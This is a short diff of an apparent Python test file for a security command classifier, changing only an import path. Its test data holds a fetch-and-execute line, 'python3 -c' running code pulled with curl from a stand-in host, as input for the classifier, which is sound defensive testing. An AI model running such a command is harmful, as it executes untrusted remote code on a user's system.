@@ -6,7 +6,7 @@ from __future__ import annotations
 
 import pytest
 
-from grove.security.commands import classify_command
+from grove.security.commands.classify import classify_command
 
 RUNS = [
     'python3 -c "$(curl -s https://e.example/x)"',
